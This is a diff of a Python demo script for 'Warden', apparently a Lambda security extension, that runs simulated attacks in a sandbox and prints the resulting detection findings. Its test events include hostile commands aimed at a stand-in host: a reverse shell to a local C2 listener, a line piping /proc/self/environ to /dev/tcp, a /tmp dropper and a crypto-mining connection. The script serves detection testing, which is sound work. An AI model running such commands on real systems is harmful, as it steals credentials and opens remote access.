@@ -1,4 +1,4 @@
-"""Runs the demo described in scripts/demo and prints what Warden saw."""
+"""Runs the demo described in scripts/demo: Warden's findings, as they would reach CloudWatch."""
 import json
 import os
 import shutil
@@ -10,48 +10,75 @@ import threading
 ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 RELEASE = os.path.join(ROOT, "target", "release")
 WORK = os.path.join(ROOT, "target", "demo")
+WARMUP = 25
 
 
-def listener():
-    """A stand-in for an attacker's server on the host: accepts and counts bytes."""
+def listener(commands=None):
+    """A stand-in for an attacker's server on the host: accepts and counts bytes; with
+    `commands`, sends them first (a command-and-control server for a reverse shell)."""
     srv = socket.socket()
     srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     srv.bind(("0.0.0.0", 0))
     srv.listen(16)
     received = {"bytes": 0, "connections": 0}
 
-    def serve():
-        while True:
-            conn, _ = srv.accept()
-            received["connections"] += 1
+    def handle(conn):
+        with conn:
+            if commands:
+                conn.sendall(commands)
             while True:
                 data = conn.recv(65536)
                 if not data:
                     break
                 received["bytes"] += len(data)
-            conn.close()
+
+    def serve():
+        while True:
+            conn, _ = srv.accept()
+            received["connections"] += 1
+            threading.Thread(target=handle, args=(conn,), daemon=True).start()
 
     threading.Thread(target=serve, daemon=True).start()
     return srv.getsockname()[1], received
 
 
 def layer():
-    path = os.path.join(WORK, "layer", "extensions")
-    os.makedirs(path, exist_ok=True)
-    shutil.copy2(os.path.join(RELEASE, "warden-extension"), os.path.join(path, "warden"))
-    return os.path.dirname(path)
+    """The layer as Lambda unpacks it at /opt: the extension and the shipped model."""
+    base = os.path.join(WORK, "layer")
+    os.makedirs(os.path.join(base, "extensions"), exist_ok=True)
+    os.makedirs(os.path.join(base, "warden"), exist_ok=True)
+    shutil.copy2(os.path.join(RELEASE, "warden-extension"), os.path.join(base, "extensions", "warden"))
+    shutil.copy2(os.path.join(ROOT, "layer", "model", "model.bin"), os.path.join(base, "warden", "model.bin"))
+    return base
 
 
-def workload(port):
-    benign = [{"log_lines": 3, "burn_ms": 5 + 3 * i} for i in range(6)]
+def benign(i):
+    return {"delay_ms": 5 + (i * 7) % 25, "log_lines": i % 3, "burn_ms": 2 + i % 5,
+            "response_bytes": 200 + (i * 37) % 400}
+
+
+def workload(sink_port, c2_port):
+    host = "host.sandbox"
     attacks = [
-        ("command injection: a shell runs", {"spawn": ["sh", "-c", "id; uname -a"]}),
-        ("exfiltration: 3 MB sent out", {"send": {"host": "host.sandbox", "port": port, "bytes": 3_000_000}}),
-        ("dropper: payload written to /tmp and run", {"exec_tmp": {"path": "/tmp/.x", "script": "#!/bin/sh\necho pwned"}}),
+        ("command injection: a shell runs commands", {"spawn": ["sh", "-c", "id; uname -a; sleep 0.1"]}),
+        ("reverse shell to a C2 server", {"reverse_shell": {"host": host, "port": c2_port, "wait_ms": 400}}),
+        ("crypto-mining: CPU burn + a pool port", {"connect": {"host": host, "port": 3333}, "burn_ms": 400}),
+        ("exfiltration: 5 MB sent out", {"send": {"host": host, "port": sink_port, "bytes": 5_000_000}}),
+        ("exfiltration: a 4 MB response", {"response_bytes": 4_000_000}),
+        ("credential theft: environ read and sent",
+         {"spawn": ["bash", "-c", f"cat /proc/self/environ | head -c 4096 > /dev/tcp/{host}/{sink_port}"]}),
+        ("dropper: payload written to /tmp and run",
+         {"exec_tmp": {"path": "/tmp/.x", "script": "#!/bin/sh\nsleep 0.2\necho pwned\n"}}),
         ("persistence: a process left running", {"spawn_detached": ["sleep", "300"]}),
-        ("probing: errors and a traceback", {"error_lines": 20, "fail": "bad input"}),
+        ("denial of wallet: runaway compute", {"burn_ms": 2500}),
     ]
-    events = [(f"benign #{i + 1}", e) for i, e in enumerate(benign)] + attacks + [("benign again", {"log_lines": 3})]
+    events = [(f"benign #{i + 1}", benign(i), False) for i in range(WARMUP)]
+    for n, (label, event) in enumerate(attacks):
+        events.append((label, event, True))
+        events.append((f"benign, after {n + 1}", benign(100 + n), False))
+    for n in range(4):
+        events.append((f"probing: malformed input #{n + 1}", {"error_lines": 3, "fail": f"bad input {n}"}, True))
+    events.append(("benign, last", benign(200), False))
     return events
 
 
@@ -60,63 +87,105 @@ def run(function_args, name, events):
     events_file = os.path.join(WORK, f"{name}.events.jsonl")
     report_file = os.path.join(WORK, f"{name}.report.jsonl")
     with open(events_file, "w") as f:
-        for _, event in events:
+        for _, event, _ in events:
             f.write(json.dumps(event) + "\n")
     cmd = [os.path.join(RELEASE, "warden-sandbox"), "run", "--layer", layer(), *function_args,
            "--events", events_file, "--report", report_file, "--host-link", "--quiet",
-           "--env", "WARDEN_RECORDS=1", "--timeout-s", "10", "--function-name", name]
+           "--timeout-s", "3", "--function-name", name]
     out = subprocess.run(cmd, capture_output=True, text=True, env={**os.environ,
                          "WARDEN_SANDBOX_PYTHON": os.path.join(ROOT, ".venv", "bin", "python")})
     if out.returncode != 0:
         sys.stderr.write(out.stderr)
         raise SystemExit(f"sandbox failed with {out.returncode}")
-    records = {}
+    findings = {}
     for line in out.stdout.splitlines():
         try:
             value = json.loads(line)
         except ValueError:
             continue
-        if isinstance(value, dict) and value.get("kind") == "invoke":
-            records[value.get("request_id")] = value
+        if isinstance(value, dict) and "warden_finding" in value:
+            findings.setdefault(value.get("request_id"), []).append(value)
     report = [json.loads(l) for l in open(report_file) if l.strip()]
-    return report, records
+    return report, findings
 
 
-def show(title, events, report, records):
+def raw(feature, value):
+    if value is None:
+        return "-"
+    if "bytes" in feature:
+        return f"{value / 1e6:.2f} MB" if abs(value) >= 1e6 else f"{value / 1e3:.1f} kB"
+    return f"{value:g}"
+
+
+def describe(f):
+    lines = [f"   FINDING {f['class']} ({f['severity']}, score {f['score']:.2f}"
+             f"{', real time' if f['realtime'] else ''})"]
+    for e in f["explanation"][:3]:
+        normal = e.get("normal")
+        rng = f"normal {raw(e['feature'], normal[0])}..{raw(e['feature'], normal[1])}" if normal else "no baseline yet"
+        lines.append(f"     {e['feature']:<24} {raw(e['feature'], e['observed']):>10}   {rng}   "
+                     f"({e['source']}, {e['contribution']:.2f})")
+    for ev in f["evidence"][:2]:
+        what = {"process": lambda v: f"process {v.get('exe')}: {v.get('cmdline', '')[:60]}",
+                "endpoint": lambda v: f"{v.get('proto')} {'listener' if v.get('listen') else 'connection'} {v.get('addr')}",
+                "tmp_file": lambda v: f"/tmp file {v.get('path')} {v.get('action')}"}.get(ev["kind"], str)
+        lines.append(f"     evidence: {what(ev)}")
+    return lines
+
+
+def show(title, events, report, findings):
     print(f"\n== {title}")
-    print(f"{'invocation':<44} {'status':<8} {'cpu ms':>6} {'tasks':>5} {'tcp out':>7} {'tx bytes':>9} "
-          f"{'/tmp new':>8} {'left':>4}  processes seen")
-    for (label, _), inv in zip(events, [r for r in report if r.get("type") == "invocation"]):
-        rec = records.get(inv["request_id"], {})
-        procs = sorted({os.path.basename(e.get("exe") or "?") for e in rec.get("evidence", [])
-                        if e.get("kind") == "process" and e.get("exe")})
-        cpu = (rec.get("cpu_user_ms") or 0) + (rec.get("cpu_system_ms") or 0)
-        print(f"{label:<44} {inv['status']:<8} {cpu:>6} {rec.get('tasks_created', '-'):>5} "
-              f"{rec.get('tcp_active_opens', '-'):>7} {rec.get('net_tx_bytes', '-'):>9} "
-              f"{rec.get('tmp_files_created', '-'):>8} {rec.get('processes_left_running', '-'):>4}  "
-              f"{', '.join(procs) or '-'}")
+    invocations = [r for r in report if r.get("type") == "invocation"]
+    tally = {"attacks": 0, "found": 0, "benign": 0, "flagged": 0}
+    quiet = 0
+    for (label, _, attack), inv in zip(events, invocations):
+        found = findings.get(inv["request_id"], [])
+        tally["attacks" if attack else "benign"] += 1
+        tally["found" if attack else "flagged"] += bool(found)
+        if not attack and not found:
+            quiet += 1
+            continue
+        if quiet:
+            print(f"{quiet} benign invocation(s): no finding")
+            quiet = 0
+        print(f"{label:<44} {inv['status']:<8} {inv.get('duration_ms') or 0:>8.1f} ms")
+        if not found:
+            print("   (no finding)")
+        # The most severe first: a real-time finding and the end-of-invocation one may both exist.
+        for f in sorted(found, key=lambda f: -f["score"])[:2]:
+            print("\n".join(describe(f)))
+    if quiet:
+        print(f"{quiet} benign invocation(s): no finding")
+    print(f"-- attacks found: {tally['found']}/{tally['attacks']}; "
+          f"benign invocations with a finding: {tally['flagged']}/{tally['benign']}")
+    return tally
 
 
 def main():
-    port, received = listener()
-    events = workload(port)
+    sink_port, received = listener()
+    c2_port, _ = listener(b"id\nuname -a\nexit\n")
+    events = workload(sink_port, c2_port)
     python = ["--function", os.path.join(ROOT, "tests", "functions", "python-probe"), "--runtime", "python",
               "--handler", "handler.handler"]
-    report, records = run(python, "orders-api", events)
-    show("Python function (awslambdaric) with the Warden layer", events, report, records)
+    totals = []
+    report, findings = run(python, "orders-api", events)
+    totals.append(show("Python function (awslambdaric) with the Warden layer", events, report, findings))
     rust_dir = os.path.join(WORK, "rust-function")
     os.makedirs(rust_dir, exist_ok=True)
     shutil.copy2(os.path.join(RELEASE, "rust-probe"), os.path.join(rust_dir, "bootstrap"))
-    report, records = run(["--function", rust_dir, "--runtime", "provided"], "thumbnailer", events)
-    show("Rust function (lambda_runtime) with the Warden layer", events, report, records)
+    report, findings = run(["--function", rust_dir, "--runtime", "provided"], "thumbnailer", events)
+    totals.append(show("Rust function (lambda_runtime) with the Warden layer", events, report, findings))
     summary = [r for r in report if r.get("type") == "summary"]
-    print(f"\nthe host-side listener received {received['bytes']} bytes on {received['connections']} connections")
+    print("\n== summary")
+    print(f"attacks found: {sum(t['found'] for t in totals)}/{sum(t['attacks'] for t in totals)}; "
+          f"benign invocations with a finding: {sum(t['flagged'] for t in totals)}/{sum(t['benign'] for t in totals)}")
+    print(f"the attacker's host received {received['bytes']} bytes on {received['connections']} connections")
     if summary:
         s = summary[0]
-        print(f"sandbox: {s['invocations']} invocations, median post-runtime {s['median_post_runtime_ms']} ms, "
+        print(f"sandbox: median post-runtime {s['median_post_runtime_ms']} ms (what Warden adds to the bill), "
               f"isolated={s['isolated']}")
-    print("records: one JSON line per invocation on the sandbox's stdout (WARDEN_RECORDS=1); "
-          "fields are in docs/features.md")
+    print("findings are JSON lines on the function's stdout, i.e. in its CloudWatch log group; "
+          "the schema is in docs/findings.md")
 
 
 if __name__ == "__main__":
